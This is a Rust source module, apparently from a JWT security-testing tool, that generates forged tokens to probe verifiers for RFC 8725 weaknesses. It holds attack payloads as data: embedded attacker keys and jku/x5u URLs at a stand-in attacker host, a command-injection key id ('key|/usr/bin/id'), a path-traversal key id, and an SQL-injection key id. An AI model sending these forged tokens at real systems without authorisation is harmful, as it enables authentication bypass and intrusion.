//! Tokens that contain a key, point to one, or abuse the key id (RFC 8725, sections 2.9 and 3.10).
//!
//! Most have a real signature, made with the attacker's key.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use crate::error::ForgeryError;
use crate::signing_key::{SigningKey, sign_hmac_token};
use crate::token::{ForgedToken, Token, without_member};

pub(crate) fn forge_tokens(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut forged = embedded_keys(good, attacker)?;
    forged.extend(unusual_key_ids(good, attacker)?);
    forged.extend(injected_key_ids(good)?);
    forged.extend(critical_parameters(good, attacker)?);
    Ok(forged)
}

/// Returns tokens whose header contains the key that signed them, or points to it.
fn embedded_keys(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut jwk = attacker.jwk()?;
    jwk["kid"] = good.header["kid"].clone();
    let mut forged = Vec::new();
    for (name, value) in [
        ("jwk", jwk),
        ("jku", json!("https://attacker.invalid/jwks.json")),
        ("x5u", json!("https://attacker.invalid/certificate.pem")),
        ("x5c", json!([STANDARD.encode(attacker.self_signed_certificate()?)])),
    ] {
        let header = good.header_with(name, value);
        let token = attacker.sign_token(&header, &good.claims)?;
        forged.push(ForgedToken::new(format!("the attacker's key in {name}, known key id"), token));
        let token = attacker.sign_token(&without_member(header, "kid"), &good.claims)?;
        forged.push(ForgedToken::new(format!("the attacker's key in {name}, no key id"), token));
    }
    Ok(forged)
}

fn unusual_key_ids(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
    let known = good.key_id().unwrap_or_default();
    let mut forged = Vec::new();
    for (name, kid) in [
        ("unknown", json!("restctl-unknown")),
        ("empty", json!("")),
        ("trailing space", json!(format!("{known} "))),
        ("trailing NUL", json!(format!("{known}\0"))),
        ("4,000 characters", json!("k".repeat(4000))),
        ("a URL", json!("https://attacker.invalid/jwks.json")),
        ("a command", json!("key|/usr/bin/id")),
        ("null", Value::Null),
        ("a number", json!(1)),
        ("an array", json!([known])),
        ("an object", json!({"kid": known})),
    ] {
        let token = attacker.sign_token(&good.header_with("kid", kid), &good.claims)?;
        forged.push(ForgedToken::new(format!("key id: {name}"), token));
    }
    Ok(forged)
}

/// A verifier that looks up the key id in a file or a database would find the secret that the attacker chose.
fn injected_key_ids(good: &Token) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut forged = Vec::new();
    for (name, kid, secret) in [
        ("path to an empty file", "../../../../../../dev/null", ""),
        ("SQL that returns the secret", "x' UNION SELECT 'secret' -- ", "secret"),
    ] {
        let header = json!({"typ": "JWT", "alg": "HS256", "kid": kid});
        let token = sign_hmac_token(Algorithm::HS256, &header, &good.claims, secret.as_bytes())?;
        forged.push(ForgedToken::new(format!("key id: {name}"), token));
    }
    Ok(forged)
}

/// RFC 7515, section 4.1.11, and RFC 7797.
fn critical_parameters(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut forged = Vec::new();
    for (name, critical) in
        [("exp", json!(["exp"])), ("unknown", json!(["x-restctl"])), ("empty list", json!([]))]
    {
        let token = good.with_header(&good.header_with("crit", critical));
        forged.push(ForgedToken::new(format!("critical header parameter: {name}"), token));
    }
    let mut unencoded = good.header_with("b64", false);
    forged
        .push(ForgedToken::new("payload declared unencoded", attacker.sign_token(&unencoded, &good.claims)?));
    unencoded["crit"] = json!(["b64"]);
    forged.push(ForgedToken::new("payload declared unencoded, critical", good.with_header(&unencoded)));
    Ok(forged)
}
